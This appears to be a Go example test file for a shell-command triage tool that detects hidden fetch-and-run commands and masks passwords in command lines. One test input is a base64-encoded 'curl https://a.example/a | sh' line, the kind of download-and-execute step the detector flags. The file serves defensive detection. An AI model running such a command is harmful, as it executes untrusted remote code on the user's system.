package command_test

import (
	"fmt"

	"github.com/debutsec/debut/internal/triage/command"
)

func ExampleAnalyse() {
	a := command.Analyse("echo Y3VybCBodHRwczovL2EuZXhhbXBsZS9hIHwgc2g= | base64 -d > /tmp/a")
	for _, m := range a.Matches {
		fmt.Println(m.Family, "|", m.What, "|", m.Excerpt, "|", m.Hidden)
	}
	// Output: fetch-run | a download that is run at once | curl https://a.example/a | sh | base64
}

func ExampleMask() {
	fmt.Println(command.Mask("mysql -u app -phunter22 shop; curl https://joe:hunter22@a.example/"))
	// Output: mysql -u app -p[masked] shop; curl https://[masked]@a.example/
}
